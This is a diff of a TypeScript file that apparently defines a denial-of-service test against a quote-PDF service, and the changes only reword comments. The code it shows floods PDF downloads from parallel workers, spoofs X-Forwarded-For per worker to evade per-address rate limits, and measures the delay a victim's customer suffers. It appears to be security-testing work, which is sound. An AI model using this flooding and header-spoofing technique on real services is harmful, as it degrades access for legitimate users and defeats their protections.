@@ -8,7 +8,7 @@ const parallel = 24;
 const downloads = 5;
 const maxWaitMs = 30_000;
 
-/** Letters of Devanagari in an order that hardly repeats, without a space. */
+/** Devanagari letters in an order that rarely repeats, without a space. */
 function devanagari(length: number, seed: number): string {
   let state = seed;
   return Array.from({ length }, () => {
@@ -17,7 +17,7 @@ function devanagari(length: number, seed: number): string {
   }).join("");
 }
 
-/** The path of the page that the customer of a new quote is sent. */
+/** The path of the page that the customer of a new quote receives. */
 async function sendQuote(
   { database }: Target,
   { businessId, rest }: { businessId: string; rest: RestClient },
@@ -34,7 +34,7 @@ async function sendQuote(
   return path;
 }
 
-/** How long the victim's customer waits for each download. */
+/** Downloads as the victim's customer. Returns the duration of each download. */
 async function downloadAsCustomer(origin: string, path: string): Promise<number[]> {
   const get = createClient(origin, { "X-Forwarded-For": "198.51.100.20" });
   const waits: number[] = [];
@@ -66,7 +66,7 @@ export const attack: Attack = {
     const counts = new Map<number, number>();
     const ask = async (asker: number) => {
       for (let next = asker; !leaving.signal.aborted; next += 1) {
-        // Each from an address of its own, so that no limit by address stops the attack.
+        // Each uses its own address, so that no limit by address stops the attack.
         const headers = { "X-Forwarded-For": `203.0.113.${asker + 1}` };
         const response = await fetch(`${origin}${paths[next % quotes]}.pdf`, { headers, signal: leaving.signal });
         await response.arrayBuffer();
